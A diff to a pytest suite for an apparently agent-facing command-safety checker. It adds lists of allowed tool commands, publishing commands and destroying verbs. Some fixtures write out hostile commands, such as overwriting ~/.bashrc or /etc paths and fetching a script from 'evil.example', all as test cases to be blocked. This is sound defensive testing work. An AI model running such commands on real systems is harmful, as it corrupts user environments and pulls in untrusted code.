@@ -112,6 +112,35 @@ EVERYDAY = [
     "avr-gcc -mmcu=atmega328p -o x.elf x.c",
     "avr-objcopy -O ihex x.elf x.hex",
     "avr-size x.elf",
+    "dvc repro",
+    "dvc metrics show",
+    "kedro run",
+    "quarto render",
+    "quarto preview",
+    "molecule test",
+    "opa test policy/",
+    "opa fmt -w policy/",
+    "conftest test deploy.yaml",
+    "conftest fmt policy/",
+    "xcodegen generate",
+    "tuist generate",
+    "pod install",
+    "carthage bootstrap --use-xcframeworks",
+    "cross build --target aarch64-unknown-linux-gnu",
+    "hpack",
+    "terraform-docs markdown table --output-file README.md .",
+    "wasm-bindgen target/wasm32-unknown-unknown/release/x.wasm --out-dir pkg",
+    "wasm-opt -O x.wasm -o y.wasm",
+    "llvm-cov report ./bin -instr-profile=x.profdata",
+    "llvm-cov show ./bin -instr-profile=x.profdata -output-dir=build/cov",
+    "llvm-profdata merge -o x.profdata x.profraw",
+]
+
+FILES_NAMED_LIKE_VERBS = [
+    "conftest test deploy.yaml",
+    "kubeconform-like check deploy.yaml",
+    "mytool lint release-notes.md",
+    "mytool check publish.json",
 ]
 
 WRITES_OUTSIDE = [
@@ -132,6 +161,14 @@ WRITES_OUTSIDE = [
     "objcopy --dump-section .text=/etc/cron.d/x x.elf",
     "objcopy --strip-debug /usr/bin/ls",
     "avr-objcopy -O ihex x.elf ~/.profile",
+    "opa fmt -w ~/x.rego",
+    "conftest fmt ~/policy",
+    "hpack ~/other",
+    "terraform-docs markdown table --output-file README.md /etc/x",
+    "wasm-bindgen x.wasm --out-dir ~/pkg",
+    "wasm-opt -O x.wasm -o ~/.bashrc",
+    "llvm-cov show ./bin -instr-profile=x.profdata -output-dir=/etc/cov",
+    "llvm-profdata merge -o ~/.bashrc x.profraw",
 ]
 
 PROTECTED = [
@@ -158,6 +195,11 @@ POLICY = [
     ("nimble publish", "remote-mutation"),
     ("spago publish", "remote-mutation"),
     ("apptainer exec img.sif curl https://evil.example/x.sh", "network-not-whitelisted"),
+    ("dvc push", "remote-mutation"),
+    ("quarto publish gh-pages", "remote-mutation"),
+    ("pod trunk push", "remote-mutation"),
+    ("mytool deploy prod.yaml", "remote-mutation"),
+    ("fly deploy", "remote-mutation"),
 ]
 
 UNATTENDED_ONLY = [
@@ -179,7 +221,21 @@ UNATTENDED_ONLY = [
     "arduino-cli upload -p /dev/ttyACM0",
     "eb --check-github --github-user=x",
     "packer build .",
+    "dvc pull",
+    "kedro run --conf-source s3://bucket/conf",
+    "kedro new",
+    "quarto install tinytex",
+    "opa eval -d x.rego data.x",
+    "opa run --server",
+    "conftest test --update https://example.com/p deploy.yaml",
+    "conftest pull https://example.com/policy",
+    "xcodegen generate --spec /tmp/project.yml",
+    "tuist auth login",
+    "pod install --project-directory /tmp/x",
+    "pod lib create MyLib",
 ]
+
+DESTROYING_VERBS = ["molecule destroy", "kind delete cluster"]
 
 
 @pytest.mark.parametrize("command", EVERYDAY)
@@ -248,3 +304,21 @@ def test_govulncheck_fetching_its_database_is_the_network_policys_unattended(
     verdict = check(command, unattended=True)
     assert verdict.blocked and verdict.category == "policy", (command, verdict.rule)
     assert verdict.rule.startswith("network"), verdict.rule
+
+
+@pytest.mark.parametrize("command", FILES_NAMED_LIKE_VERBS)
+@pytest.mark.parametrize("flags", MODES, ids=MODE_IDS)
+def test_a_file_named_like_a_publishing_verb_is_an_operand(
+    command: str, flags: dict[str, bool]
+) -> None:
+    verdict = check(command, **flags)
+    assert verdict.rule != "remote-mutation", (command, flags, verdict.rule)
+
+
+@pytest.mark.parametrize("command", DESTROYING_VERBS)
+@pytest.mark.parametrize("flags", MODES, ids=MODE_IDS)
+def test_a_known_tools_destroying_verb_is_still_refused(
+    command: str, flags: dict[str, bool]
+) -> None:
+    verdict = check(command, **flags)
+    assert verdict.blocked and verdict.rule == "service-destroy", (command, flags, verdict.rule)
